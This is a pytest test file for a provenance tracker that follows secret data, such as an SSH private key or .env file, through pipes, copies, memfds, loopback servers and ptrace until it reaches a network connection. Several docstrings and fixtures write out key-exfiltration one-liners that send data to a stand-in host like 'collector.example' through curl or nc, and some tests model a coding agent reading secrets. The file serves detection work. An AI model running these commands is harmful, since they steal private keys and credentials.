from __future__ import annotations

from collections.abc import Callable
from typing import Any

import cbor2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.scorer.enrich.lineage import Lineage
from workbench.scorer.enrich.provenance import Provenance
from workbench.scorer.enrich.taint import MAX_HOPS

MakeTape = Callable[..., Any]
KEY = "/home/u/.ssh/id_ed25519"


@pytest.fixture
def provenance() -> Provenance:
    return Provenance()


@pytest.fixture
def tape(make_tape: MakeTape, provenance: Provenance, labelled: Any) -> Any:
    tape = make_tape(Lineage().apply, lambda event: provenance.apply(event, labelled(event)))
    tape.exec("shell", "bash")
    return tape


def held(event: dict[str, Any]) -> list[str]:
    return event.get("provenance.labels", [])


def test_a_pipeline_carries_the_key_to_the_connection(tape: Any, provenance: Provenance) -> None:
    """`base64 < key | curl -d @- …`, whose shell opens the key before base64 runs."""
    tape.fork("shell", "base64")
    tape.file("open", "base64", KEY, 11, file__flags=["read"])
    tape.exec("base64", "base64")
    tape.spawn("shell", "curl", "curl", "-d", "@-", "https://collector.example")
    tape.file("read", "base64", KEY, 11)
    tape.pipe("write", "base64", 99)
    tape.pipe("read", "curl", 99)
    event = tape.connect("curl")
    assert held(event) == ["secret"]
    assert event["provenance.confidence"] >= 0.7
    way = provenance.path("curl", "secret")
    assert [hop.action for hop in way] == ["file/read", "file/write", "file/read"]
    assert way[0].source == KEY
    assert way[-1].target == f"curl({tape.pid('curl')})"
    assert way[0].event_id in provenance.origins("curl")


def test_a_pipes_reader_told_before_its_writer_is_labelled_too(tape: Any) -> None:
    tape.spawn("shell", "cat", "cat")
    tape.spawn("shell", "nc", "nc")
    tape.file("read", "cat", KEY, 11)
    start = tape.now + 1
    tape.wait(0.001)
    tape.pipe("read", "nc", 99, event__end=tape.now + 10_000_000)
    tape.pipe("write", "cat", 99, event__start=start)
    assert held(tape.event("network/send", "nc")) == ["secret"]


def test_a_copy_made_by_one_call_and_sent_by_another_later(tape: Any, provenance: Provenance) -> None:
    tape.spawn("shell", "cp", "cp")
    tape.file("read", "cp", KEY, 11)
    tape.file("write", "cp", "/dev/shm/.x", 12)
    tape.event("process/exit", "cp")
    tape.wait(600)
    tape.spawn("shell", "curl", "curl", "-T", "/dev/shm/.x")
    tape.file("open", "curl", "/dev/shm/.x", 12, file__flags=["read"])
    assert held(tape.connect("curl")) == ["secret"]
    assert [hop.target for hop in provenance.path("curl", "secret")][1] == "/dev/shm/.x"


def test_a_one_liner_that_reads_and_sends_itself(tape: Any) -> None:
    tape.spawn("shell", "py", "python3", "-c", "...")
    tape.file("open", "py", KEY, 11, file__flags=["read"])
    event = tape.connect("py")
    assert held(event) == ["secret"]
    assert event["provenance.confidence"] == 0.7, "opened, the read not yet told"
    tape.file("read", "py", KEY, 11)
    assert tape.event("network/send", "py")["provenance.confidence"] == 0.95


def test_ssh_reads_its_key_while_pip_downloads(tape: Any) -> None:
    tape.spawn("shell", "ssh", "ssh", "host")
    tape.file("open", "ssh", KEY, 11, file__flags=["read"])
    tape.file("read", "ssh", KEY, 11)
    tape.spawn("shell", "pip", "pip", "download", "x")
    assert held(tape.connect("pip", "pypi.org", destination__class="package_registry")) == []
    assert held(tape.connect("ssh", "host")) == ["secret"]


def test_a_shell_variable_reaches_the_command_that_gets_it(tape: Any) -> None:
    """`K=$(cat key); curl -d "$K" …`"""
    tape.spawn("shell", "cat", "cat")
    tape.file("read", "cat", KEY, 11)
    tape.pipe("write", "cat", 99)
    tape.pipe("read", "shell", 99)
    tape.spawn("shell", "curl", "curl", "-d", "...")
    event = tape.connect("curl")
    assert held(event) == ["secret"]
    assert event["provenance.confidence"] == 0.6, "only what exec keeps"


def test_what_an_agent_read_makes_its_later_tools_only_possible_holders(tape: Any) -> None:
    tape.exec("agent", "codex")
    tape.file("read", "agent", "/home/u/.env", 13)
    tape.fork("agent", "tool", attribution__actor="agent")
    tape.exec("tool", "pip", "install")
    event = tape.connect("tool")
    assert held(event) == ["possible_secret"]
    assert event["provenance.confidence"] < 0.5


def test_a_tool_that_prints_a_secret_gives_it_to_the_agent(tape: Any) -> None:
    tape.exec("agent", "codex")
    tape.spawn("agent", "cat", "cat")
    tape.file("read", "cat", "/home/u/.env", 13)
    tape.pipe("write", "cat", 50)
    tape.pipe("read", "agent", 50)
    assert held(tape.connect("agent")) == ["secret"]


def test_the_inode_counts_not_the_path(tape: Any) -> None:
    tape.file("open", "shell", KEY, 11, file__flags=["write"])
    assert held(tape.file("open", "shell", "/x", 5)) == []
    tape.spawn("shell", "cat", "cat")
    tape.file("read", "cat", KEY, 11)
    tape.spawn("shell", "other", "cat")
    assert held(tape.file("read", "other", "/home/u/innocent", 11)) == ["secret"]


@pytest.mark.parametrize("action", ["rename", "link"])
def test_another_name_without_inodes_is_the_same_file(tape: Any, action: str) -> None:
    tape.spawn("shell", "cp", "cp")
    tape.file("read", "cp", KEY)
    tape.file("write", "cp", "/tmp/a")
    tape.file(action, "shell", "/tmp/b", file__original__path="/tmp/a")
    tape.spawn("shell", "curl", "curl")
    assert held(tape.file("open", "curl", "/tmp/b")) == ["secret"]


def test_what_was_labelled_by_its_path_is_known_by_its_inode_later(tape: Any) -> None:
    tape.spawn("shell", "cp", "cp")
    tape.file("read", "cp", KEY)
    tape.file("write", "cp", "/tmp/a")
    tape.file("write", "cp", "/tmp/b")
    assert held(tape.file("read", "shell", "/tmp/a", 9)) == ["secret"]
    tape.spawn("init", "other", "cat")
    tape.file("create", "other", "/tmp/b", 10)
    assert held(tape.file("read", "other", "/tmp/b", 10)) == []


def test_a_deleted_file_still_open_keeps_its_labels_and_its_inode_used_again_does_not(tape: Any) -> None:
    tape.spawn("shell", "cp", "cp")
    tape.file("read", "cp", KEY, 11)
    tape.file("write", "cp", "/tmp/a", 12)
    tape.file("delete", "cp", "/tmp/a", 12)
    tape.spawn("shell", "holder", "tail")
    assert held(tape.file("read", "holder", "/tmp/a", 12)) == ["secret"]
    tape.file("create", "cp", "/tmp/new", 12)
    tape.spawn("shell", "reader", "cat")
    assert held(tape.file("read", "reader", "/tmp/new", 12)) == []


def test_creating_over_a_labelled_file_that_is_still_there_does_not_wash_it(tape: Any) -> None:
    tape.spawn("shell", "cp", "cp")
    tape.file("read", "cp", KEY, 11)
    tape.file("write", "cp", "/tmp/a", 12)
    tape.file("create", "shell", "/tmp/a", 12)
    tape.spawn("shell", "reader", "cat")
    assert held(tape.file("read", "reader", "/tmp/a", 12)) == ["secret"]


def test_a_file_cut_to_nothing_is_clean(tape: Any) -> None:
    tape.spawn("shell", "cp", "cp")
    tape.file("read", "cp", KEY, 11)
    tape.file("write", "cp", "/tmp/a", 12)
    tape.file("open", "shell", "/tmp/a", 12, file__flags=["write", "truncate"])
    tape.spawn("shell", "reader", "cat")
    assert held(tape.file("read", "reader", "/tmp/a", 12)) == []


def test_a_write_that_ended_before_the_read_carries_nothing(tape: Any) -> None:
    tape.spawn("shell", "py", "python3")
    ended = tape.now
    tape.file("read", "py", KEY, 11)
    tape.file("write", "py", "/tmp/log", 12, event__start=ended - 10, event__end=ended)
    tape.spawn("shell", "reader", "cat")
    assert held(tape.file("read", "reader", "/tmp/log", 12)) == []


def test_a_memfd_carries_and_what_runs_from_a_labelled_file_is_labelled(tape: Any) -> None:
    tape.spawn("shell", "py", "python3")
    tape.file("read", "py", KEY, 11)
    tape.event("process/memfd", "py", file__path="memfd:x")
    tape.file("write", "py", "/memfd:x", 77, file__type="memfd")
    tape.fork("shell", "runner")
    event = tape.exec("runner", "/proc/5/fd/3", file__inode="77", file__device="8:1")
    assert held(event) == ["secret"]


def test_a_terminal_and_null_carry_nothing(tape: Any) -> None:
    tape.spawn("shell", "cat", "cat")
    tape.file("read", "cat", KEY, 11)
    tape.file("write", "cat", "/dev/pts/3", 5)
    tape.file("write", "cat", "/dev/null", 6, file__type="device")
    assert held(tape.file("read", "shell", "/dev/pts/3", 5)) == []
    assert held(tape.file("read", "shell", "/dev/null", 6)) == []


def test_a_failed_open_labels_nothing(tape: Any) -> None:
    assert held(tape.file("open", "shell", KEY, 11, event__outcome="failure")) == []


def loopback(tape: Any, action: str, entity: str, source: int, target: int) -> dict[str, Any]:
    ports = {"source__port": source, "destination__port": target} if source else {"destination__port": target}
    return tape.event(f"network/{action}", entity, destination__class="loopback", **ports)


def test_a_loopback_connection_carries_labels_to_the_server_that_forwards_them(tape: Any) -> None:
    tape.exec("relay", "/opt/relay")
    tape.event("network/bind", "relay", source__port=8080)
    tape.spawn("shell", "curl", "curl")
    tape.file("read", "curl", KEY, 11)
    loopback(tape, "connect", "curl", 50000, 8080)
    loopback(tape, "accept", "relay", 50000, 8080)
    loopback(tape, "send", "curl", 50000, 8080)
    loopback(tape, "receive", "relay", 50000, 8080)
    assert held(tape.connect("relay")) == ["secret"]


def test_another_client_of_a_loopback_server_gets_nothing_of_it(tape: Any) -> None:
    tape.exec("relay", "/opt/relay")
    tape.event("network/bind", "relay", source__port=8080)
    tape.spawn("shell", "curl", "curl")
    tape.file("read", "curl", KEY, 11)
    loopback(tape, "send", "curl", 50000, 8080)
    tape.spawn("shell", "other", "curl")
    loopback(tape, "connect", "other", 50001, 8080)
    loopback(tape, "receive", "other", 50001, 8080)
    assert held(tape.connect("other")) == []


def test_a_servers_answer_carries_what_it_holds(tape: Any) -> None:
    tape.exec("vault", "/opt/vault")
    tape.event("network/bind", "vault", source__port=8200)
    tape.file("read", "vault", KEY, 11)
    tape.spawn("shell", "curl", "curl")
    loopback(tape, "connect", "curl", 50000, 8200)
    loopback(tape, "accept", "vault", 50000, 8200)
    loopback(tape, "send", "vault", 50000, 8200)
    loopback(tape, "receive", "curl", 50000, 8200)
    assert held(tape.connect("curl")) == ["secret"]


def test_reading_anothers_memory_takes_its_labels(tape: Any) -> None:
    tape.exec("holder", "ssh-agent")
    tape.file("read", "holder", KEY, 11)
    tape.spawn("shell", "gdb", "gdb")
    tape.event("process/ptrace", "gdb", process__target__entity_id="holder")
    assert held(tape.connect("gdb")) == ["secret"]


def test_a_surer_way_replaces_a_less_sure_one_and_never_the_reverse(
    tape: Any, provenance: Provenance
) -> None:
    tape.spawn("shell", "py", "python3")
    tape.file("read", "py", KEY, 11)
    tape.file("open", "py", KEY, 11, file__flags=["read"])
    assert tape.connect("py")["provenance.confidence"] == 0.95


def test_a_very_long_way_stays_bounded_and_keeps_its_beginning(tape: Any, provenance: Provenance) -> None:
    tape.file("read", "shell", KEY, 11)
    last = "shell"
    for number in range(200):
        tape.fork(last, f"p{number}")
        last = f"p{number}"
    way = provenance.path(last, "secret")
    assert len(way) == MAX_HOPS
    assert way[0].source == KEY


def test_what_is_forgotten_is_counted(make_tape: MakeTape, labelled: Any) -> None:
    provenance = Provenance(max_processes=5, max_things=5)
    tape = make_tape(Lineage().apply, lambda event: provenance.apply(event, labelled(event)))
    tape.file("read", "p", KEY, 11)
    for number in range(20):
        tape.fork("p", f"child{number}")
        tape.file("write", "p", f"/tmp/{number}", 100 + number)
    assert provenance.evicted == 16 + 16
    assert held(tape.connect("p")) == ["secret"]


def test_a_snapshot_keeps_ways_once_and_goes_on(tape: Any, provenance: Provenance) -> None:
    tape.spawn("shell", "cp", "cp")
    tape.file("read", "cp", KEY, 11)
    tape.file("write", "cp", "/tmp/a", 12)
    other = Provenance()
    other.restore(cbor2.loads(cbor2.dumps(provenance.snapshot(), canonical=True)))
    assert other.snapshot() == provenance.snapshot()
    assert other.path("cp", "secret") == provenance.path("cp", "secret")
    event = {"@timestamp": tape.now + 1, "event.category": "file", "event.action": "read"}
    event |= {"process.entity_id": "new", "file.inode": "12", "file.device": "8:1"}
    other.apply(event, [])
    assert held(event) == ["secret"]


KINDS = [
    *(
        "process/fork",
        "process/exec",
        "process/exit",
        "process/ptrace",
        "file/open",
        "file/read",
        "file/write",
    ),
    *("file/create", "file/rename", "file/link", "file/delete", "network/bind", "network/connect"),
    *("network/accept", "network/send", "network/receive", "agent/prompt"),
]


@given(
    st.lists(
        st.tuples(
            st.sampled_from(KINDS),
            st.integers(1, 4),
            st.integers(0, 4),
            st.sampled_from(["pipe", "file", "device", "memfd"]),
            st.booleans(),
        ),
        max_size=40,
    )
)
def test_labels_only_come_from_labelling_and_state_stays_bounded(
    steps: list[tuple[str, int, int, str, bool]],
) -> None:
    provenance, clean = Provenance(max_processes=3, max_things=3), Provenance()
    for time, (kind, one, two, file_type, label) in enumerate(steps):
        category, _, action = kind.partition("/")
        event: dict[str, Any] = {"@timestamp": time, "event.category": category, "event.action": action}
        event |= {
            "process.entity_id": f"e{one}",
            "process.target.entity_id": f"e{two}",
            "file.type": file_type,
        }
        event |= {"file.path": f"/f{two}", "file.original.path": f"/f{one}", "destination.class": "loopback"}
        event |= {"source.port": one, "destination.port": two} | ({"file.inode": str(two)} if two else {})
        untouched = dict(event)
        clean.apply(untouched, [])
        assert "provenance.labels" not in untouched
        provenance.apply(event, ["secret"] if label else [])
        assert event.get("provenance.labels", ["secret"]) in (["secret"], ["possible_secret"])
        assert 0 <= event.get("provenance.confidence", 1) <= 1
        state = provenance.snapshot()
        assert len(state["processes"]) <= 3
        assert len(state["things"]["taints"]) <= 3


def test_what_a_shell_opened_for_a_command_is_still_open_after_exec(tape: Any) -> None:
    """`curl -d @- … < key`: the read is told only when curl ends."""
    tape.fork("shell", "curl")
    tape.file("open", "curl", KEY, 11, file__flags=["read"])
    tape.exec("curl", "curl", "-d", "@-")
    event = tape.connect("curl")
    assert (event["provenance.confidence"], event["provenance.hops"]) == (0.7, 1)


def test_hops_count_reads_and_writes_not_forks(tape: Any) -> None:
    tape.spawn("shell", "cp", "cp")
    tape.file("read", "cp", KEY, 11)
    tape.file("write", "cp", "/tmp/a", 12)
    tape.spawn("shell", "py", "python3")
    tape.file("read", "py", "/tmp/a", 12)
    tape.fork("py", "worker")
    assert tape.connect("worker")["provenance.hops"] == 3
